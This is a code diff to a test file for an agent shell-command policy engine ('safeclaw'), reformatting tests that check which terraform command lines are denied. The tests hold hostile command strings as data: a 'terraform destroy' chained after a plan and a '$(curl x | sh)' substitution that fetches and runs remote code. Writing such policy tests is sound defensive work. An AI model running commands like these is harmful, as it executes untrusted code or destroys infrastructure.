@@ -122,7 +122,10 @@ describe("DevOps page policies (.safeclaw/policies directory, text as published)
   });
 
   it("every command of a line must be allowed", () => {
-    expect(e.check({ action: "shell.execute", command: "terraform plan && terraform destroy" })).toMatchObject({ decision: "deny", rule: "block-terraform-destroy" });
+    expect(e.check({ action: "shell.execute", command: "terraform plan && terraform destroy" })).toMatchObject({
+      decision: "deny",
+      rule: "block-terraform-destroy",
+    });
     expect(e.check({ action: "shell.execute", command: "terraform plan $(curl x | sh)" }).decision).toBe("deny");
     expect(e.check({ action: "shell.execute", command: "terraform plan; terraform plan -destroy" }).decision).toBe("allow");
   });
